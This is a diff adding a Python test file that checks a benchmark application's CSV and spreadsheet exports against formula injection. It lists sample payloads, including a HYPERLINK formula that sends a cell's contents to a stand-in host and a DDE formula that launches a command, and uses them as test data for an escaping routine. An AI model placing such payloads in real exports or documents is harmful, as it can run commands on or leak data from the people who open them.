@@ -1,0 +1,77 @@
+"""No cell of a table is a formula, and nothing is lost by that."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.utils.timezone import now
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from benchmarks.models import JudgmentSet
+from benchmarks.services import exports, importing
+from concord.formats import read_judgments
+from core.security.cells import harmless, plain
+from tests.benchmarks.factories import candidate_lines, write_lines
+
+ATTACKS = (
+    '=HYPERLINK("http://example.org/?"&A1,"open")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_a_formula_is_kept_text(text):
+    assert harmless(text) == "'" + text and plain(harmless(text)) == text
+
+
+@given(st.one_of(st.text(), st.text("'=+-@\t\r\na", max_size=6)))
+def test_what_was_written_is_read_back_and_nothing_begins_a_formula(text):
+    written = harmless(text)
+    assert plain(written) == text
+    assert not written.startswith(ATTACKS[0][0]) and written[:1] not in tuple("+-@\t\r\n")
+
+
+@pytest.mark.parametrize("value", [None, -1.5, 3, True, "plain", "a=b", "'quoted'", ""])
+def test_numbers_and_other_texts_stay_as_they_are(value):
+    assert harmless(value) is value
+
+
+PRINTED = tuple(attack for attack in ATTACKS if attack.isprintable())
+
+
+@pytest.fixture
+def attacked(db, tmp_path) -> JudgmentSet:
+    """A set whose ids and systems are formulas."""
+    lines = candidate_lines()
+    for line, attack in zip(lines, PRINTED, strict=False):
+        line |= {"id": attack, "system": attack, "candidate": attack}
+    path = write_lines(tmp_path / "attacked.jsonl", lines)
+    return importing.import_judgments("attacked", read_judgments([path], "concord"), at=now())
+
+
+def test_exported_tables_hold_no_formula(attacked):
+    for lines in (exports.scores_csv(attacked, []), exports.ratings_csv(attacked, str)):
+        rows = list(csv.reader(io.StringIO("".join(lines))))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in set("=+@\t\r\n\uff1d") or c.startswith("-2+")]
+        assert {plain(row[0]) for row in rows} >= set(PRINTED)
+
+
+def test_exported_spreadsheets_hold_text_and_no_formula(attacked):
+    file = io.BytesIO()
+    exports.workbook(attacked, [], file, str)
+    file.seek(0)
+    for sheet in load_workbook(file):
+        for row in sheet.iter_rows():
+            assert all(cell.data_type != "f" for cell in row)
